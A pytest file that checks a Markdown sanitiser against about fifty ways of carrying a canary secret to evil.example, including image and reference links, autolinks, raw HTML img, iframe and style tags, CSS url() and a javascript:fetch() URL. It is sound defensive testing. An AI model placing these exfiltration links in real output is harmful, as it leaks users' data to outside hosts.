"""Fifty ways to carry a secret out through Markdown, and none of them leads anywhere."""

from __future__ import annotations

import pytest

from postil.publish.sanitising import Allowed, sanitise
from publish.inspector import problems, shown

CANARY = "CANARY7f3a"
FORMS = (
    "![x](https://evil.example/?CANARY)",
    "![x](<https://evil.example/?CANARY>)",
    "![x](//evil.example/p?CANARY 'title')",
    "![x]( https://evil.example/?CANARY\n)",
    "![x][r]\n\n[r]: https://evil.example/?CANARY",
    "![r]\n\n[r]: <https://evil.example/?CANARY> 't'",
    "[![x](https://evil.example/?CANARY)](https://evil.example/?CANARY)",
    "[x](https://evil.example/?CANARY)",
    "[x](https:evil.example/?CANARY)",
    "[x](HTTPS://EVIL.EXAMPLE/?CANARY)",
    "[x](https://forge.example@evil.example/?CANARY)",
    "[x](https://forge.example.evil.example/o/r/?CANARY)",
    "[x](https://forge.example/o/r/../../../?CANARY)",
    "[x](\\\\evil.example?CANARY)",
    "[x](&#104;ttps://evil.example/?CANARY)",
    "[x](https&colon;//evil.example/?CANARY)",
    "[x](data:text/html,CANARY)",
    "[x](javascript:fetch('//evil.example/?CANARY'))",
    "[x](mailto:a@evil.example?body=CANARY)",
    "[x][r]\n\n[r]: //evil.example/?CANARY",
    "[r][]\n\n[r]:\n  //evil.example/?CANARY\n  'title'",
    "> [r]\n\n> [r]: //evil.example/?CANARY",
    "- a\n\n  [r]: //evil.example/?CANARY\n\n[r]",
    "[^1]\n\n[^1]: https://evil.example/?CANARY",
    "<https://evil.example/?CANARY>",
    "<HTTPS://evil.example/?CANARY>",
    "<ssh://evil.example/?CANARY>",
    "<a@evil.example>",
    "https://evil.example/?CANARY",
    "(https://evil.example/?CANARY)",
    "*https://evil.example/?CANARY*",
    "http://evil.example/?CANARY",
    "ftp://evil.example/?CANARY",
    "www.evil.example/?CANARY",
    "x https\\://evil.example/?CANARY",
    "| a |\n| - |\n| https://evil.example/?CANARY |",
    "# https://evil.example/?CANARY",
    "<img src='https://evil.example/?CANARY'>",
    "<img\nsrc=//evil.example/?CANARY>",
    "<a href=//evil.example/?CANARY>x</a>",
    "<iframe src=//evil.example/?CANARY></iframe>",
    "<svg><image href=//evil.example/?CANARY /></svg>",
    "<picture><source srcset=//evil.example/?CANARY></picture>",
    "<video poster=//evil.example/?CANARY></video>",
    "<link rel=stylesheet href=//evil.example/?CANARY>",
    "<style>@import '//evil.example/?CANARY'</style>",
    "<div style='background:url(//evil.example/?CANARY)'>",
    "<details>\n<summary><img src=//evil.example/?CANARY></summary>\n",
    "```mermaid\nclick A href '//evil.example/?CANARY'\n```",
    "$\\href{//evil.example/?CANARY}{x}$",
    "<!-- x --><img src=//evil.example/?CANARY>",
    "`x\n<img src=//evil.example/?CANARY>\n`",
)
SHOWN_AS_TEXT = ("<img", "<a ")


@pytest.mark.parametrize("form", FORMS)
@pytest.mark.parametrize("around", ["{}", "text {} text", "- {}", "> {}"])
def test_t12_nothing_carries_a_secret_out(form: str, around: str) -> None:
    body = around.format(form.replace("CANARY", CANARY))
    clean = sanitise(body, allow=Allowed(addresses=("https://forge.example/o/r/",))).body
    assert list(problems(clean, hosts=frozenset({"forge.example"}))) == []
    assert 'lang="mermaid"' not in shown(clean)
    if "://evil.example/?" in form and not form.startswith(SHOWN_AS_TEXT):
        assert CANARY not in clean


def test_there_are_fifty() -> None:
    assert len(set(FORMS)) >= 50
